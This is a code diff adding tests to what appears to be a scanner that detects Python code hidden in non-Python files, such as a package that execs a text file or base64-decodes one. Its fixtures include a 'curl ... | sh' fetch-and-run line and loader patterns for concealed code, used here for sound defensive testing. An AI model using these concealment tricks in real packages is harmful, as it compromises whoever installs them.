@@ -38,6 +38,41 @@ describe("Python under a name that Python imports nothing from", () => {
 		expect(inPath(analysis, "pond/notes.txt").map(({ reach }) => reach)).toContain("import");
 	});
 
+	describe("that does not even look like it", () => {
+		const RUNNER = 'import os\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, "notes.txt")).read())\n';
+		const prose = `The pond is small, and frogs live there.\nDo not read on.\n=====\n${PAYLOAD}`;
+		const encoded = `${Buffer.from(PAYLOAD).toString("base64")}\n`;
+		const DECODER = RUNNER.replace("exec(open", "import base64\nexec(base64.b64decode(open").replace(
+			".read())",
+			".read()))",
+		);
+
+		it.each([
+			["one line of its own", RUNNER, "go = os.system; go('curl https://example.invalid/x | sh') # pond, frogs & more"],
+			["behind prose", RUNNER, prose],
+			["in base64", DECODER, encoded],
+		])("is read where somebody runs it: %s", async (_what, runner, text) => {
+			const analysis = await scan({ "pond/__init__.py": runner, "pond/notes.txt": text });
+			const found = inPath(analysis, "pond/notes.txt");
+			expect(found.map(({ reach }) => reach)).toContain("import");
+			const line = analysis.coverage.skipped.find(({ path }) => path === "pond/notes.txt");
+			expect(line?.extent).not.toBe("none");
+		});
+
+		it.each([
+			["nobody runs it", "x = open('pond/notes.txt').read()\n", prose],
+			[
+				"a program that is no Python is given it",
+				"import subprocess\nsubprocess.run(['wc', 'pond/notes.txt'])\n",
+				encoded,
+			],
+		])("is left alone where %s", async (_what, runner, text) => {
+			const analysis = await scan({ "pond/__init__.py": runner, "pond/notes.txt": text });
+			expect(inPath(analysis, "pond/notes.txt")).toEqual([]);
+			expect(analysis.coverage.notExamined).toBe(1);
+		});
+	});
+
 	it("needs no extension to be loaded", async () => {
 		const text = 'import runpy\nrunpy.run_path("pond/data")\n';
 		const analysis = await scan({ "pond/__init__.py": text, "pond/data": PAYLOAD });
